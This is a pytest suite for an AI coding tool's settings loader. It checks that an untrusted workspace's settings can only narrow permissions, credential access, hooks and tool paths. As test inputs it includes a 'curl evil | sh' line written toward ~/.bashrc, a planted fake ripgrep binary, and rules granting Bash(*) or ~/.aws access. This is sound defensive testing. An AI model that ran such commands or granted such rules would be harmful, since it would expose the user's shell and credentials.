"""A workspace's own settings files may only narrow access unless the user trusts the workspace.

Every key of the schema, spelled by its JSON key and by its Python field name, in each of the
workspace's four files, untrusted and trusted; limits clamped to the value below them; the
permission modes; rules of every kind by their effect on real calls; trust matched by real path;
and settings files that are FIFOs, devices, directories, huge or not UTF-8."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

from codebelt import Session
from codebelt.errors import SettingsError
from codebelt.settings import SettingsModel, load_settings
from codebelt.settings.loader import CLAUDE_PERMISSION_KEYS, CLAUDE_TOP_KEYS, WORKSPACE_FILES, Settings
from codebelt.settings.narrowing import field_by_alias, section_of
from codebelt.settings.schema import MODES_NARROWEST_FIRST

HOOK = {"PreToolUse": [{"hooks": [{"type": "command", "command": "true"}]}]}

# Every key: (a value an untrusted workspace must not get, a value it gets), None where there is
# no such value (a default that is already the widest; a key only the user sets).
KEYS: dict[str, tuple[Any, Any]] = {
    "$schema": (None, "https://example.com/codebelt.schema.json"),
    "permissions.allow": (["Bash(*)", "Read(~/.aws/**)", "Edit(//elsewhere/**)", "Edit(.git/config)"], None),
    "permissions.ask": (None, ["Bash(git push *)"]),
    "permissions.deny": (None, ["Read(./.env)"]),
    "permissions.defaultMode": ("acceptEdits", "plan"),
    "permissions.additionalDirectories": (["~"], None),
    "sandbox.mode": ("off", None),
    "sandbox.network": (True, None),
    "sandbox.jail": (False, None),
    "sandbox.allowUnixSockets": (True, None),
    "sandbox.autoAllowBash": (True, None),
    "sandbox.limits.processes": (0, None),
    "sandbox.limits.fileSizeMB": (0, None),
    "sandbox.limits.coreDumps": (True, None),
    "sandbox.limits.memoryMB": (0, None),
    "sandbox.filesystem.denyRead": (None, ["~/.aws"]),
    "sandbox.filesystem.allowGitHistory": (True, None),
    "bash.env": ("clean", None),
    "bash.envAllow": (["AWS_*"], None),
    "bash.defaultTimeoutMs": (10**7, 1000),
    "bash.maxTimeoutMs": (10**8, 1000),
    "bash.maxBackgroundTimeoutMs": (10**9, 1000),
    "bash.backgroundTimeoutMs": (None, 5000),
    "bash.backgroundTasks": (None, False),
    "bash.autoBackground": (True, None),  # off by default (as Claude Code): a workspace may not turn it on
    "bash.autoBackgroundMs": (None, 1000),
    "bash.killGraceMs": (60_000, 100),
    "bash.maxOutputBytes": (0, 1000),
    "bash.maxSessionOutputBytes": (0, 1000),
    "bash.interactiveIdleTimeoutMs": (0, 1000),
    "bash.maxInteractive": (1000, 2),
    "compat.profile": (None, "codex"),
    "search.ripgrepPath": ("./tools/rg", None),
    "search.useSystemRipgrep": (True, None),
    "search.timeoutMs": (10**7, 100),
    "search.exclude": (None, ["*.min.js"]),
    "grep.timeoutMs": (10**7, 100),
    "grep.headLimit": (0, 10),
    "grep.maxResultChars": (10**7, 100),
    "grep.maxColumns": (10**6, 100),
    "grep.includeHidden": (None, False),
    "grep.includeIgnored": (None, True),
    "grep.exclude": (None, ["dist/**"]),
    "glob.timeoutMs": (10**7, 100),
    "glob.maxResults": (10**6, 10),
    "glob.includeHidden": (None, False),
    "glob.includeIgnored": (None, True),
    "glob.exclude": (None, ["dist/**"]),
    "compat.profile": (None, None),  # one profile yet: no value tells whose file set it
    "read.maxTokens": (10**7, 100),
    "read.maxImageEdge": (10**5, 100),
    "read.maxImagePixels": (10**9, 100),
    "edit.maxFileMB": (100_000, 1),
    "intel.diagnostics": (None, False),
    "intel.diagnosticsWaitMs": (9_000, 100),
    "intel.maxFiles": (10**7, 10),
    "intel.cacheDir": ("./cache", None),
    "intel.startWithSession": (None, False),
    "lsp.enabled": (None, False),
    "lsp.servers": ({"evil": {"command": "./evil", "extensions": [".py"]}}, None),
    "lsp.autoDetect": (None, False),
    "lsp.requestTimeoutMs": (100_000, 100),
    "lsp.startTimeoutMs": (200_000, 100),
    "checkpoints.enabled": (False, None),  # a repository cannot take the way back away
    "checkpoints.directory": ("./store", None),
    "checkpoints.maxStoreMB": (10**6, 10),
    "checkpoints.maxAgeDays": (10**4, 1),
    "checkpoints.maxFileMB": (10**5, 1),
    "checkpoints.maxCallMB": (10**6, 1),
    "checkpoints.maxFiles": (10**8, 100),
    "checkpoints.modelTool": (True, None),
    "checkpoints.exclude": (None, ["generated"]),
    "checkpoints.baselineAtStart": (None, False),
    "checkpoints.gitObjects": (None, False),
    "hooks": (HOOK, None),
    "disableAllHooks": (True, None),
    "trustedWorkspaces": (["/"], None),
}
NEVER = {"trustedWorkspaces"}  # not even from a trusted workspace


def schema_keys(model=SettingsModel, prefix: tuple[str, ...] = ()) -> list[str]:
    out = []
    for name, info in model.model_fields.items():
        key = (*prefix, info.alias or name)
        section = section_of(info)
        out += schema_keys(section, key) if section is not None else [".".join(key)]
    return out


def field_names(dotted: str) -> list[str]:
    """The Python field names along a key's path."""
    model, names = SettingsModel, []
    for part in dotted.split("."):
        name, info = field_by_alias(model, part)
        names.append(name)
        model = section_of(info) or model
    return names


def nested(path: list[str], value: Any) -> dict[str, Any]:
    for part in reversed(path):
        value = {part: value}
    return value


def claude_reads(dotted: str) -> bool:
    """Whether codebelt reads this key from Claude Code's settings files at all."""
    parts = dotted.split(".")
    return (parts[0] == "permissions" and parts[-1] in CLAUDE_PERMISSION_KEYS) or dotted in CLAUDE_TOP_KEYS


def taken(s: Settings, dotted: str, value: Any) -> bool:
    got = s.get(dotted)
    if dotted in ("hooks", "lsp.servers"):
        return set(value) <= set(got)
    if isinstance(value, list):
        return all(v in got for v in value)
    return got == value


def write(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data))


def test_the_table_covers_every_key_of_the_schema():
    assert sorted(KEYS) == sorted(schema_keys())


@pytest.mark.parametrize("rel", WORKSPACE_FILES)
@pytest.mark.parametrize("dotted", sorted(KEYS))
def test_every_key_from_every_workspace_file(ws, rel, dotted):
    refused, allowed = KEYS[dotted]
    read_here = not rel.startswith(".claude/") or claude_reads(dotted)
    for value, narrows in ((refused, False), (allowed, True)):
        if value is None:
            continue
        write(ws / rel, nested(dotted.split("."), value))
        untrusted = load_settings(ws, load_user=False)
        trusted = load_settings(ws, load_user=False, trust_workspace=True)
        if not read_here:  # the rest of Claude Code's files is Claude Code's
            assert not taken(untrusted, dotted, value) and not taken(trusted, dotted, value)
            assert not any(dotted in w for w in untrusted.warnings + trusted.warnings)
            continue
        assert taken(untrusted, dotted, value) is narrows, (dotted, value)
        assert taken(trusted, dotted, value) is (dotted not in NEVER), (dotted, value)
        if not narrows:
            assert any(i.key == dotted and i.source == rel for i in untrusted.ignored)
            assert any(dotted in w and rel in w for w in untrusted.warnings)
            if dotted not in NEVER:  # the warning says how to have it taken
                assert "--trust-workspace" in untrusted.trust_notice() and str(ws.resolve()) in untrusted.trust_notice()
        else:
            assert untrusted.ignored == [] and untrusted.trust_notice() is None


def spellings(dotted: str) -> list[list[str]]:
    """The key spelled by field names: all of it, and only its last part (`search.ripgrep_path`)."""
    names, aliases = field_names(dotted), dotted.split(".")
    out = [names, [*aliases[:-1], names[-1]]]
    return [p for i, p in enumerate(out) if p != aliases and p not in out[:i]]


@pytest.mark.parametrize("rel", WORKSPACE_FILES)
@pytest.mark.parametrize("dotted", sorted(k for k in KEYS if spellings(k)))
def test_field_names_are_not_keys(ws, rel, dotted):
    """pydantic would take `ripgrep_path` for `ripgrepPath`: files are read by JSON key alone."""
    value = next(v for v in KEYS[dotted] if v is not None)
    for path in spellings(dotted):
        write(ws / rel, nested(path, value))
        for trust in (False, True):
            s = load_settings(ws, load_user=False, trust_workspace=trust)
            assert not taken(s, dotted, value), (path, trust)
            if not rel.startswith(".claude/"):
                written = ".".join(path)
                assert any(i.why == "unknown" and i.key == written for i in s.ignored), (written, s.ignored)
                assert any(written in w for w in s.warnings)


@pytest.mark.parametrize("where", ["user", "--settings", "api"])
def test_field_names_are_refused_from_the_users_files_too(ws, tmp_path, monkeypatch, where):
    data = {"search": {"ripgrep_path": "/usr/bin/rg"}}
    if where == "user":
        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
        write(tmp_path / "cfg/codebelt/settings.json", data)
        kwargs = {}
    elif where == "--settings":
        write(tmp_path / "extra.json", data)
        kwargs = {"settings_file": tmp_path / "extra.json"}
    else:
        kwargs = {"explicit": data}
    with pytest.raises(SettingsError, match=r"unknown setting search\.ripgrep_path; did you mean search\.ripgrepPath"):
        load_settings(ws, **kwargs)


# -- limits a workspace may only lower ------------------------------------------------------------
# (the user's settings, the workspace's, the key, what the session gets, whether it was refused)
LIMITS = [
    ({"edit": {"maxFileMB": 10}}, {"edit": {"maxFileMB": 5}}, "edit.maxFileMB", 5, False),
    ({"edit": {"maxFileMB": 10}}, {"edit": {"maxFileMB": 20}}, "edit.maxFileMB", 10, True),
    ({}, {"edit": {"maxFileMB": 100_000}}, "edit.maxFileMB", 256, True),
    ({"bash": {"maxOutputBytes": 0}}, {"bash": {"maxOutputBytes": 1000}}, "bash.maxOutputBytes", 1000, False),
    ({"bash": {"maxOutputBytes": 1000}}, {"bash": {"maxOutputBytes": 0}}, "bash.maxOutputBytes", 1000, True),
    ({"bash": {"maxOutputBytes": 1000}}, {"bash": {"maxOutputBytes": 2000}}, "bash.maxOutputBytes", 1000, True),
    ({}, {"bash": {"backgroundTimeoutMs": 5}}, "bash.backgroundTimeoutMs", 5, False),
    ({"bash": {"backgroundTimeoutMs": 5}}, {"bash": {"backgroundTimeoutMs": 0}}, "bash.backgroundTimeoutMs", 5, True),
    ({"grep": {"headLimit": 0}}, {"grep": {"headLimit": 10}}, "grep.headLimit", 10, False),
    ({"grep": {"headLimit": 10}}, {"grep": {"headLimit": 0}}, "grep.headLimit", 10, True),
    # unset, grep.timeoutMs is search.timeoutMs: that is the ceiling
    ({"search": {"timeoutMs": 1000}}, {"grep": {"timeoutMs": 5000}}, "grep.timeoutMs", None, True),
    ({"search": {"timeoutMs": 1000}}, {"grep": {"timeoutMs": 500}}, "grep.timeoutMs", 500, False),
    ({"grep": {"timeoutMs": 800}}, {"grep": {"timeoutMs": 900}}, "grep.timeoutMs", 800, True),
    ({"bash": {"backgroundTasks": False}}, {"bash": {"backgroundTasks": True}}, "bash.backgroundTasks", False, True),
    ({}, {"bash": {"backgroundTasks": False}}, "bash.backgroundTasks", False, False),
    ({"intel": {"diagnostics": False}}, {"intel": {"diagnostics": True}}, "intel.diagnostics", False, True),
    ({"lsp": {"enabled": False}}, {"lsp": {"enabled": True}}, "lsp.enabled", False, True),
    ({"search": {"exclude": ["a"]}}, {"search": {"exclude": ["b"]}}, "search.exclude", ["a", "b"], False),
    ({"search": {"exclude": ["a"]}}, {"search": {"exclude": []}}, "search.exclude", ["a"], False),
    ({"grep": {"includeIgnored": True}}, {"grep": {"includeIgnored": False}}, "grep.includeIgnored", False, False),
]


def at(data: dict[str, Any], dotted: str) -> Any:
    for part in dotted.split("."):
        data = data[part]
    return data


@pytest.mark.parametrize("user,workspace,dotted,expected,refused", LIMITS)
def test_a_workspace_may_only_narrow_the_users_value(ws, tmp_path, monkeypatch, user, workspace, dotted, expected,
                                                     refused):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    write(tmp_path / "cfg/codebelt/settings.json", user)
    write(ws / ".codebelt/settings.json", workspace)
    s = load_settings(ws)
    assert s.get(dotted) == expected
    assert any(i.key == dotted and i.why == "limited" for i in s.ignored) is refused
    assert any(dotted in w and "may only" in w for w in s.warnings) is refused
    # trusted, the workspace's value is taken as written
    assert load_settings(ws, trust_workspace=True).get(dotted) == at(workspace, dotted)


def test_the_callers_own_values_still_win(ws, tmp_path):
    write(ws / ".codebelt/settings.json", {"edit": {"maxFileMB": 5}, "permissions": {"defaultMode": "plan"}})
    s = load_settings(ws, explicit={"edit": {"maxFileMB": 1000}}, overrides={"permissions": {"defaultMode": "acceptEdits"}},
                      load_user=False)
    assert s.get("edit.maxFileMB") == 1000 and s.get("permissions.defaultMode") == "acceptEdits"


@pytest.mark.parametrize("user_mode", MODES_NARROWEST_FIRST)
@pytest.mark.parametrize("workspace_mode", MODES_NARROWEST_FIRST)
def test_modes_a_workspace_may_choose(ws, tmp_path, monkeypatch, user_mode, workspace_mode):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    write(tmp_path / "cfg/codebelt/settings.json", {"permissions": {"defaultMode": user_mode}})
    write(ws / ".claude/settings.json", {"permissions": {"defaultMode": workspace_mode}})
    order = MODES_NARROWEST_FIRST.index
    expected = workspace_mode if order(workspace_mode) <= order(user_mode) else user_mode
    assert load_settings(ws).get("permissions.defaultMode") == expected
    assert load_settings(ws, trust_workspace=True).get("permissions.defaultMode") == workspace_mode


# -- rules, by their effect on real calls -------------------------------------------------------
class Recorder:
    """An approver that says yes and remembers what it was asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def __call__(self, request) -> bool:
        self.asked.append(request.tool)
        return True


# (rules in the workspace's file, mode, call, outcome untrusted, outcome trusted):
# "allow" runs unasked, "ask" asks (and the recorder approves), "deny" is refused unasked.
RULES = [
    ({"allow": ["Read(~/.aws/**)"]}, None, ("Read", {"file_path": "~/.aws/credentials"}), "ask", "allow"),
    ({"allow": ["Edit(//{elsewhere}/**)"]}, None, ("Write", {"file_path": "{elsewhere}/x.txt", "content": "x"}), "deny", "allow"),
    ({"allow": ["Edit(.git/config)"]}, None, ("Write", {"file_path": ".git/config", "content": "x"}), "ask", "allow"),
    ({"allow": ["Bash(*)"]}, None, ("Bash", {"command": "touch made-by-bash"}), "ask", "allow"),
    ({"allow": ["Bash"]}, None, ("Bash", {"command": "touch made-by-bash"}), "ask", "allow"),
    ({"allow": ["Edit(src/**)"]}, None, ("Write", {"file_path": "src/new.txt", "content": "x"}), "ask", "allow"),
    ({"allow": ["Write"]}, None, ("Write", {"file_path": "new.txt", "content": "x"}), "ask", "allow"),
    ({"allow": ["ApplyPatch"]}, None,
     ("ApplyPatch", {"input": "*** Begin Patch\n*** Add File: p.txt\n+x\n*** End Patch"}), "ask", "allow"),
    ({"deny": ["Read(./secret.txt)"]}, None, ("Read", {"file_path": "secret.txt"}), "deny", "deny"),
    ({"deny": ["Grep"]}, None, ("Grep", {"pattern": "x"}), "deny", "deny"),
    ({"deny": ["Glob"]}, None, ("Glob", {"pattern": "*"}), "deny", "deny"),
    ({"deny": ["Bash(cat *)"]}, None, ("Bash", {"command": "cat secret.txt"}), "deny", "deny"),
    ({"deny": ["Edit(src/**)"]}, "acceptEdits", ("Write", {"file_path": "src/x.txt", "content": "x"}), "deny", "deny"),
    ({"ask": ["Read(./secret.txt)"]}, None, ("Read", {"file_path": "secret.txt"}), "ask", "ask"),
    ({"ask": ["Grep"]}, None, ("Grep", {"pattern": "x"}), "ask", "ask"),
    ({"ask": ["Bash(ls *)"]}, None, ("Bash", {"command": "ls"}), "ask", "ask"),
    # an untrusted workspace's ask never turns a deny into a question
    ({"ask": ["Edit(//{elsewhere}/**)"]}, None, ("Write", {"file_path": "{elsewhere}/x.txt", "content": "x"}), "deny", "ask"),
    ({"ask": ["Bash(touch *)"]}, "plan", ("Bash", {"command": "touch made-by-bash"}), "deny", "ask"),
    ({"ask": ["Bash(*)"]}, "plan", ("Bash", {"command": "touch made-by-bash"}), "deny", "deny"),
    ({"ask": ["Edit(./new.txt)"]}, "plan", ("Write", {"file_path": "new.txt", "content": "x"}), "deny", "ask"),
    ({"ask": ["Edit(.git/**)"]}, "plan", ("Write", {"file_path": ".git/config", "content": "x"}), "deny", "ask"),
]


def fill(value: Any, elsewhere: Path) -> Any:
    if isinstance(value, str):
        return value.replace("{elsewhere}", str(elsewhere))
    if isinstance(value, list):
        return [fill(v, elsewhere) for v in value]
    if isinstance(value, dict):
        return {k: fill(v, elsewhere) for k, v in value.items()}
    return value


@pytest.mark.parametrize("rel", [".codebelt/settings.json", ".claude/settings.local.json"])
@pytest.mark.parametrize("rules,mode,call,untrusted,trusted", RULES)
def test_rules_by_their_effect(ws, tmp_path, monkeypatch, make_session, rel, rules, mode, call, untrusted, trusted):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    write(tmp_path / "home/.aws/credentials", "[default]\n")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (ws / ".git").mkdir()
    (ws / ".git/config").write_text("[core]\n")
    (ws / "src").mkdir()
    (ws / "secret.txt").write_text("x\n")
    write(ws / rel, {"permissions": fill(rules, elsewhere)})
    tool, args = call[0], fill(call[1], elsewhere)
    for trust, expected in ((False, untrusted), (True, trusted)):
        approver = Recorder()
        s = make_session(approver=approver, trust_workspace=trust, mode=mode)
        if "file_path" in args and tool == "Write" and Path(ws / args["file_path"]).exists():
            s.call("Read", {"file_path": args["file_path"]})
        r = s.call(tool, args)
        if approver.asked:
            got = "ask"
        elif r.is_error:
            got = "deny" if "Permission to use" in r.text else f"error: {r.text}"
        else:
            got = "allow"
        assert got == expected, (trust, r.text)


def test_a_workspace_cannot_grant_home(ws, tmp_path, monkeypatch, make_session):
    """`additionalDirectories: ["~"]` with acceptEdits would let the model write ~/.bashrc."""
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    write(home / ".bashrc", "# mine\n")
    write(ws / ".claude/settings.json", {"permissions": {"additionalDirectories": ["~"], "defaultMode": "acceptEdits"}})
    s = make_session()
    assert s.call("Read", {"file_path": str(home / ".bashrc")}).is_error  # outside: asks, and nobody can answer
    r = s.call("Write", {"file_path": str(home / ".bashrc"), "content": "curl evil | sh\n"})
    assert r.is_error and (home / ".bashrc").read_text() == "# mine\n"
    trusted = make_session(trust_workspace=True)
    assert not trusted.call("Write", {"file_path": str(home / "notes.txt"), "content": "ok\n"}).is_error
    # Even trusted, the home directory's start-up files stay protected (they run in every shell).
    trusted.call("Read", {"file_path": str(home / ".bashrc")})
    assert trusted.call("Write", {"file_path": str(home / ".bashrc"), "content": "ok\n"}).is_error


@pytest.mark.parametrize("rel", [".codebelt/settings.json", ".codebelt/settings.local.json"])
@pytest.mark.parametrize("spelling", [{"search": {"ripgrepPath": "{rg}"}}, {"search": {"ripgrep_path": "{rg}"}},
                                      {"search": {"useSystemRipgrep": True}}])
def test_a_planted_ripgrep_never_runs_untrusted(ws, tmp_path, monkeypatch, make_session, rel, spelling):
    marker = tmp_path / "ran"
    tools = ws / "tools"
    tools.mkdir()
    for name in ("rg", "evil-rg"):
        (tools / name).write_text(f"#!/bin/sh\ntouch {marker}\nexit 2\n")
        (tools / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")  # useSystemRipgrep would find it here
    write(ws / rel, json.loads(json.dumps(spelling).replace("{rg}", str(tools / "evil-rg"))))
    (ws / "a.txt").write_text("hello\n")
    s = make_session()
    for call in (("Grep", {"pattern": "hello"}), ("Glob", {"pattern": "*.txt"})):
        r = s.call(*call)
        assert not r.is_error and "a.txt" in r.text
    assert not marker.exists()
    # the same file in a trusted workspace is taken (by its JSON key alone): the setting is real
    trusted = make_session(trust_workspace=True).settings
    chosen = trusted.search.ripgrep_path is not None or trusted.search.use_system_ripgrep
    assert chosen is ("ripgrep_path" not in json.dumps(spelling))


# -- trust: only the user's, and matched by the real directory ----------------------------------
def entries(ws: Path, tmp_path: Path) -> dict[str, tuple[str, bool]]:
    link = tmp_path / "link-to-ws"
    link.symlink_to(ws)
    (tmp_path / "ws-evil").mkdir()
    return {
        "exact": (str(ws), True),
        "trailing slash": (str(ws) + "/", True),
        "dot and dot-dot": (f"{ws.parent}/./x/../{ws.name}", True),
        "a symlink to it": (str(link), True),
        "in home": ("~/" + str(ws.relative_to(tmp_path)), True),
        "relative": (ws.name, False),
        "its parent": (str(ws.parent), False),
        "a sibling sharing its prefix": (str(ws) + "-evil", False),
        "another letter case": (str(ws.parent / ws.name.upper()), False),
        "root": ("/", False),
    }


@pytest.mark.parametrize("case", ["exact", "trailing slash", "dot and dot-dot", "a symlink to it", "in home",
                                  "relative", "its parent", "a sibling sharing its prefix", "another letter case", "root"])
def test_trusted_workspaces_match_the_real_directory(ws, tmp_path, monkeypatch, case):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)  # a relative entry would name the workspace from here
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    entry, expected = entries(ws, tmp_path)[case]
    (ws / "x").mkdir()
    write(tmp_path / "cfg/codebelt/settings.json", {"trustedWorkspaces": [entry]})
    write(ws / ".codebelt/settings.json", {"permissions": {"allow": ["Bash(make *)"]}})
    s = load_settings(ws)
    assert s.trust.trusted is expected and any(r.text == "Bash(make *)" for r in s.rules) is expected
    if case == "relative":
        assert any("not an absolute path" in w for w in s.warnings)


def test_a_session_opened_through_a_symlink_is_the_same_workspace(ws, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    link = tmp_path / "checkout"
    link.symlink_to(ws)
    write(tmp_path / "cfg/codebelt/settings.json", {"trustedWorkspaces": [str(ws)]})
    write(ws / ".codebelt/settings.json", {"permissions": {"allow": ["Bash(make *)"]}})
    assert load_settings(link).trust.trusted and load_settings(Path(str(link) + "/")).trust.trusted
    # and the other way round: the trusted entry is the symlink, the session the real directory
    write(tmp_path / "cfg/codebelt/settings.json", {"trustedWorkspaces": [str(link)]})
    assert load_settings(ws).trust.trusted


@pytest.mark.parametrize("rel", WORKSPACE_FILES)
def test_only_the_user_can_trust_a_workspace(ws, tmp_path, rel):
    write(ws / rel, {"trustedWorkspaces": [str(ws)], "permissions": {"allow": ["Bash(make *)"]}})
    s = load_settings(ws, load_user=False)
    assert not s.trust.trusted and not any(r.behavior == "allow" for r in s.rules)
    # from the API or a --settings file, it is the user's word
    write(tmp_path / "extra.json", {"trustedWorkspaces": [str(ws)]})
    assert load_settings(ws, settings_file=tmp_path / "extra.json", load_user=False).trust.trusted
    assert load_settings(ws, explicit={"trustedWorkspaces": [str(ws)]}, load_user=False).trust.trusted


# -- provenance is where a file is found, not where it points -----------------------------------
def test_a_workspace_file_pointing_at_the_users_file_is_still_the_workspaces(ws, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    user = tmp_path / "cfg/codebelt/settings.json"
    write(user, {"permissions": {"allow": ["Bash(make *)"]}})
    other = tmp_path / "dotfiles/settings.json"
    write(other, {"permissions": {"allow": ["Bash(*)"], "deny": ["Bash(curl *)"]}, "search": {"ripgrepPath": "/x"}})
    (ws / ".codebelt").mkdir()
    (ws / ".codebelt/settings.json").symlink_to(user)
    (ws / ".codebelt/settings.local.json").symlink_to(other)
    s = load_settings(ws)
    rules = {(r.behavior, r.text, r.source) for r in s.rules}
    assert ("allow", "Bash(make *)", s.sources[-1]) in rules  # from the user's own file, the lowest layer
    assert not any(source.startswith(".codebelt") and b == "allow" for b, _, source in rules)
    assert ("deny", "Bash(curl *)", ".codebelt/settings.local.json") in rules  # narrowing is taken
    assert s.get("search.ripgrepPath") is None
    assert {(i.source, i.key) for i in s.ignored} >= {(".codebelt/settings.json", "permissions.allow"),
                                                      (".codebelt/settings.local.json", "permissions.allow")}


# -- bounded reads ------------------------------------------------------------------------------
def make_unusable(path: Path, kind: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "/dev/zero":
        path.symlink_to("/dev/zero")
    elif kind == "/dev/null":
        path.symlink_to("/dev/null")
    elif kind == "huge":
        with open(path, "wb") as f:
            f.truncate(4 << 30)  # sparse: 4 GB that takes no disk
    elif kind == "directory":
        path.mkdir()
    elif kind == "socket":
        import socket

        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(path))
        sock.close()


def finishes(fn):
    """Runs fn in a thread; a settings read that hangs must not hang the test run."""
    box: dict[str, Any] = {}

    def target():
        try:
            box["value"] = fn()
        except BaseException as e:  # noqa: BLE001
            box["error"] = e

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(60)
    assert not t.is_alive(), "reading a settings file hung"
    return box


UNUSABLE = ["fifo", "/dev/zero", "/dev/null", "huge", "directory", "socket"]


@pytest.mark.parametrize("kind", UNUSABLE)
@pytest.mark.parametrize("rel", WORKSPACE_FILES)
def test_an_unusable_workspace_file_is_left_out_with_a_warning(ws, rel, kind):
    make_unusable(ws / rel, kind)
    write(ws / ".codebelt/settings.json" if rel != ".codebelt/settings.json" else ws / ".claude/settings.json",
          {"permissions": {"deny": ["Bash(curl *)"]}})
    box = finishes(lambda: load_settings(ws, load_user=False))
    assert "error" not in box, box.get("error")
    s = box["value"]
    assert any(rel in w and ("not read" in w or "cannot read" in w) for w in s.warnings), s.warnings
    assert any(r.text == "Bash(curl *)" for r in s.rules)  # the other files still count


@pytest.mark.parametrize("kind", UNUSABLE)
@pytest.mark.parametrize("where", ["user", "--settings", "~/.claude"])
def test_an_unusable_user_file_stops_the_session_naming_it(ws, tmp_path, monkeypatch, where, kind):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    path = {"user": tmp_path / "cfg/codebelt/settings.json", "--settings": tmp_path / "extra.json",
            "~/.claude": tmp_path / "home/.claude/settings.json"}[where]
    make_unusable(path, kind)
    box = finishes(lambda: load_settings(ws, settings_file=path if where == "--settings" else None))
    error = box.get("error")
    assert isinstance(error, SettingsError), box
    assert ("not a regular file" in str(error) or "limit" in str(error) or "cannot read" in str(error))
    assert path.name in str(error)


@pytest.mark.parametrize("content,message", [
    (b"\xff\xfe{\x00}\x00", "not UTF-8"),
    (b'{"permissions": {"deny": ["\xe9"]}}', "not UTF-8"),
    (b"[" * 100_000, "not valid JSON|nested too deeply"),
    (b"\xef\xbb\xbf{\"permissions\": {\"deny\": [\"Bash(curl *)\"]}}", None),  # a BOM is fine
])
def test_content_that_is_not_json_text_is_named(ws, content, message):
    (ws / ".codebelt").mkdir()
    (ws / ".codebelt/settings.json").write_bytes(content)
    if message is None:
        assert any(r.text == "Bash(curl *)" for r in load_settings(ws, load_user=False).rules)
        return
    with pytest.raises(SettingsError, match=message) as e:
        load_settings(ws, load_user=False)
    assert ".codebelt/settings.json" in str(e.value)


def test_a_file_just_under_the_cap_is_read(ws):
    from codebelt.settings.reading import MAX_BYTES

    text = json.dumps({"permissions": {"deny": ["Bash(curl *)"]}})
    (ws / ".codebelt").mkdir()
    (ws / ".codebelt/settings.json").write_text(text + " " * (MAX_BYTES - len(text)))
    assert [r.text for r in load_settings(ws, load_user=False).rules] == ["Bash(curl *)"]
    (ws / ".codebelt/settings.json").write_text(text + " " * (MAX_BYTES - len(text) + 1))
    assert load_settings(ws, load_user=False).rules == []


# -- saying it at session start -----------------------------------------------------------------
def untrusted_repo(ws: Path) -> None:
    write(ws / ".claude/settings.json", {"permissions": {"allow": ["Bash(*)"]}})
    write(ws / ".codebelt/settings.json", {"search": {"ripgrepPath": "./rg"}})


def test_the_cli_says_what_was_ignored_and_how_to_trust(ws, capsys):
    from codebelt.cli import main

    untrusted_repo(ws)
    assert main(["tools", "--root", str(ws)]) == 0
    err = capsys.readouterr().err
    assert "not trusted" in err and "permissions.allow (.claude/settings.json)" in err
    assert "search.ripgrepPath (.codebelt/settings.json)" in err and "--trust-workspace" in err
    assert main(["tools", "--root", str(ws), "--trust-workspace"]) == 0
    assert "not trusted" not in capsys.readouterr().err


def test_the_mcp_server_log_says_it(ws, tmp_path):
    untrusted_repo(ws)
    env = {**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "cfg"), "XDG_STATE_HOME": str(tmp_path / "state")}
    out = subprocess.run([sys.executable, "-m", "codebelt.cli", "serve", "--root", str(ws)], stdin=subprocess.DEVNULL,
                         capture_output=True, text=True, timeout=120, env=env)
    assert out.returncode == 0, out.stderr
    assert "not trusted" in out.stderr and "permissions.allow (.claude/settings.json)" in out.stderr
    assert out.stderr.count("not trusted") == 1  # said once, in the server's log


def test_a_repository_without_settings_says_nothing(ws):
    s = load_settings(ws, load_user=False)
    assert s.warnings == [] and s.trust_notice() is None and not s.trust.trusted
